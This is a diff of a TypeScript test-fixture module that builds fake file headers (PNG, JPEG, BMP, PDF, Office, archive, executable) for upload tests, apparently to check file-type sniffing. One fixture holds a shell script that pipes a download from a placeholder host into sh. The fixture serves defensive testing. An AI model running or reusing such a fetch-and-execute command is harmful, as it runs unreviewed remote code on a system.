@@ -11,12 +11,9 @@ import { call } from '../../test/harness.ts';
  * calls the way the web client does (multipart with ignore_sign=1, JSON calls signed).
  */
 
-const pad = (head: Buffer, size: number, fill = 0) => {
-  if (size < head.length) throw new Error(`fixture needs at least ${head.length} bytes`);
-  return Buffer.concat([head, Buffer.alloc(size - head.length, fill)]);
-};
+export { bmp, exe, jpg, pad, pdf, png } from '../../test/file-fixtures.ts';
+import { pad, png } from '../../test/file-fixtures.ts';
 
-export const png = (size: number) => pad(Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'), size);
 /** A PNG whose image data (one IDAT chunk) is `data`: any bytes, still sniffed as PNG. */
 export function pngWith(data: Buffer): Buffer {
   const header = Buffer.alloc(8);
@@ -24,26 +21,11 @@ export function pngWith(data: Buffer): Buffer {
   header.write('IDAT', 4, 'latin1');
   return Buffer.concat([png(33), header, data]);
 }
-export const jpg = (size: number) => pad(Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), size);
-export function bmp(size: number): Buffer {
-  const head = Buffer.alloc(54);
-  head.write('BM', 0, 'ascii');
-  head.writeUInt32LE(size, 2);
-  head.writeUInt32LE(54, 10);
-  head.writeUInt32LE(40, 14);
-  head.writeInt32LE(1, 18);
-  head.writeInt32LE(1, 22);
-  head.writeUInt16LE(1, 26);
-  head.writeUInt16LE(24, 28);
-  return pad(head, size);
-}
-export const pdf = (size: number) => pad(Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1'), size, 0x20);
 /** An OLE compound file (what Word 97–2003 writes). */
 export const doc = (size: number) => pad(Buffer.from('d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900', 'hex'), size);
 export const rar = (size: number) => pad(Buffer.from('526172211a0700cf907300000d00000000000000', 'hex'), size);
 export const sevenZip = (size: number) => pad(Buffer.from('377abcaf271c0004', 'hex'), size);
 /** A Windows executable header. */
-export const exe = (size = 4096) => pad(Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000', 'hex'), size);
 export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
 export const text = (content: string) => Buffer.from(content, 'utf8');
 
